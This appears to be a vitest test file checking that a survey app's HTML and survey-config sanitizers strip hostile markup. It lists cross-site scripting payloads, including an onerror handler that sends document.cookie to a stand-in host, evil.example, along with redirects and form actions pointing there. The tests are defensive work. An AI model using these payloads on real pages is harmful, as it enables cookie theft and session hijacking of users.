import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { at } from "../indexed";
import { markupProblem, safeMarkup, safeSurvey } from "./markup";

// The render-time half of the allow-list: what a respondent's page does with HTML from a
// stored version, whatever it holds (the checker refuses the same markup on the way in).
const PAYLOADS = [
  "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
  "<script>alert(1)</script>",
  "<p onclick=alert(1)>x</p>",
  "<p/onclick=alert(1)>x</p>",
  '<p class="a"onclick="alert(1)">x</p>',
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  "<style>@import url(//evil.example)</style>",
  "<!--<img src=x onerror=alert(1)>-->",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<div class="x" style="background:url(//evil.example)">x</div>',
  "<<img src=x onerror=alert(1)>>",
  "<img src=x onerror=alert(1)//",
  "<form action=//evil.example><input name=t></form>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<base href=//evil.example/>",
];

describe("safeMarkup", () => {
  it("leaves nothing outside the allow-list in the attack payloads", () => {
    for (const p of PAYLOADS) {
      const safe = safeMarkup(p);
      expect(markupProblem(safe), `${p} → ${safe}`).toBeNull();
      expect(safe).not.toMatch(/<(?!\/?(p|b|div|span)\b)[a-z!?/]/i);
      expect(safe.toLowerCase()).not.toContain("onerror=");
    }
    expect(safeMarkup(at(PAYLOADS, 0))).toBe("");
    expect(safeMarkup("<h3>提交成功</h3><img src=x onerror=alert(1)>")).toBe("<h3>提交成功</h3>");
    expect(safeMarkup('<p onclick=alert(1) class="note">谢谢</p>')).toBe('<p class="note">谢谢</p>');
  });

  it("keeps what the checker accepts as it renders, and text that only looks like markup", () => {
    expect(safeMarkup('<h3 class="done">提交成功，感谢您的参与！</h3><p>谢谢<br/>您的参与</p>')).toBe(
      '<h3 class="done">提交成功，感谢您的参与！</h3><p>谢谢<br>您的参与</p>',
    );
    expect(safeMarkup("分数 < 60 或 a<=b")).toBe("分数 &lt; 60 或 a&lt;=b");
    expect(safeMarkup("&lt;img&gt; &amp;")).toBe("&lt;img&gt; &amp;");
  });

  it("always yields markup within the allow-list, and is stable (any string)", () => {
    const pieces = fc.constantFrom(
      "<",
      ">",
      "/",
      "!",
      "?",
      "-",
      "=",
      '"',
      "'",
      " ",
      "img",
      "p",
      "b",
      "script",
      "on",
      "error",
      "class",
      "x",
      "br",
      "svg",
      "&",
      "\n",
      "a",
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string()), { maxLength: 30 }), (parts) => {
        const s = parts.join("");
        const safe = safeMarkup(s);
        expect(markupProblem(safe)).toBeNull();
        expect(safeMarkup(safe)).toBe(safe);
      }),
      { numRuns: 3000 },
    );
  });
});

describe("safeSurvey", () => {
  it("drops what sends answers away, navigates, sets cookies or loads from elsewhere", () => {
    const s = safeSurvey({
      navigateToUrl: "https://evil.example/?t={q1}",
      cookieName: "done",
      surveyPostId: "x",
      logo: "/api/x?{q1}",
      completedHtml: "<h3>谢谢</h3>",
      pages: [
        {
          elements: [
            { type: "dropdown", name: "q1", choicesByUrl: { url: "https://evil.example" }, choices: [1, 2] },
            { type: "flowpanel", name: "f", content: "<img src=x onerror=alert(1)>" },
            { type: "image", name: "i", imageLink: "data:image/png;base64,iVBORw0KGgo=" },
          ],
        },
      ],
    });
    expect(s).toEqual({
      completedHtml: "<h3>谢谢</h3>",
      pages: [
        {
          elements: [
            { type: "dropdown", name: "q1", choices: [1, 2] },
            { type: "image", name: "i", imageLink: "data:image/png;base64,iVBORw0KGgo=" },
          ],
        },
      ],
    });
  });
});
